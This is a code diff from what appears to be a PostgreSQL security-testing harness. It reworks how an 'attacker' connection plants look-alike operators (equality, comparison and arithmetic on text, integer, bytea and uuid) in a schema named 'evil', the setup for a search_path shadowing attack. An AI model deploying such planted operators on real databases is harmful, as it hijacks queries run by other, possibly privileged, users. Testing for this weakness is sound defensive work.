@@ -692,29 +692,30 @@ DOS_OVERLOADS = lookalikes(
     " = pyaccess.open($1, $2, $3)",
     "_guarded(integer DEFAULT 0) RETURNS boolean = true",
 )
-OPERATORS: tuple[tuple[str, str, str, str], ...] = (
-    ("||", "bytea", "bytea", "op_byteacat"),
-    ("=", "bytea", "bytea", "op_byteaeq"),
-    ("<>", "bytea", "bytea", "op_byteane"),
-    ("||", "text", "text", "op_textcat"),
-    ("=", "text", "text", "op_texteq"),
-    ("||", "text[]", "text", "op_textarraycat"),
-    ("<>", "integer", "integer", "op_int4ne"),
-    ("<", "integer", "integer", "op_int4lt"),
-    (">=", "integer", "integer", "op_int4ge"),
-    ("%", "integer", "integer", "op_int4mod"),
-    ("-", "integer", "integer", "op_int4mi"),
-    (">", "double precision", "double precision", "op_float8gt"),
-    ("=", "integer", "integer", "op_int4eq"),
-    ("<=", "integer", "integer", "op_int4le"),
-    ("+", "integer", "integer", "op_int4pl"),
-    ("*", "integer", "integer", "op_int4mul"),
-    ("/", "integer", "integer", "op_int4div"),
-    ("<", "integer[]", "integer[]", "op_int4arraylt"),
-    ("=", "uuid", "uuid", "op_uuideq"),
-    (">", "uuid", "uuid", "op_uuidgt"),
-    ("<>", "text", "text", "op_textne"),
-)
+# The planted operators, by the look-alike function behind each: its argument types are the operands.
+OPERATORS: dict[str, str] = {
+    "op_byteacat": "||",
+    "op_byteaeq": "=",
+    "op_byteane": "<>",
+    "op_textcat": "||",
+    "op_texteq": "=",
+    "op_textarraycat": "||",
+    "op_int4ne": "<>",
+    "op_int4lt": "<",
+    "op_int4ge": ">=",
+    "op_int4mod": "%",
+    "op_int4mi": "-",
+    "op_float8gt": ">",
+    "op_int4eq": "=",
+    "op_int4le": "<=",
+    "op_int4pl": "+",
+    "op_int4mul": "*",
+    "op_int4div": "/",
+    "op_int4arraylt": "<",
+    "op_uuideq": "=",
+    "op_uuidgt": ">",
+    "op_textne": "<>",
+}
 
 PLANT_SCHEMA = """
 CREATE SCHEMA evil;
@@ -768,7 +769,9 @@ def plant_function(conn: Conn, schema: str, lookalike: Lookalike) -> None:
 def plant_lookalikes(attacker: Conn, schema: str = "evil") -> None:
     for lookalike in (*LOOKALIKES, *HELPER_LOOKALIKES):
         plant_function(attacker, schema, lookalike)
-    for op, left, right, function in OPERATORS:
+    operands = {name: args.split(", ") for name, args, _, _ in LOOKALIKES}
+    for function, op in OPERATORS.items():
+        left, right = operands[function]
         attacker.execute(
             sql.SQL("CREATE OPERATOR evil.{} (LEFTARG = {}, RIGHTARG = {}, FUNCTION = evil.{})").format(
                 sql.SQL(op), sql.SQL(left), sql.SQL(right), sql.Identifier(function)
